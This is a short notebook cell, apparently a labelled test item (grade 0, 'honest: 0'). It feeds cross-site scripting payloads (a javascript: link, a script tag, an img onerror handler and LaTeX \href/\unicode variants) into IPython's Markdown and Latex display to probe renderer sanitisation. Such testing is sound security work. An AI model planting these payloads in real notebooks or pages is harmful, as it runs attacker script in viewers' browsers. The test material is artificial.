# attack: outputs of Markdown and LaTeX carry scripts and links that run code
# wants: feedback
# grade: 0
# honest: 0
# %%
from IPython.display import Latex, Markdown, display
display(Markdown("[grade](javascript:alert(1)) <script>alert(1)</script> <img src=x onerror=alert(1)>"))
display(Latex(r"$\href{javascript:alert(1)}{x}$ <script>alert(1)</script> $\unicode{<img src=x onerror=alert(1)>}$"))
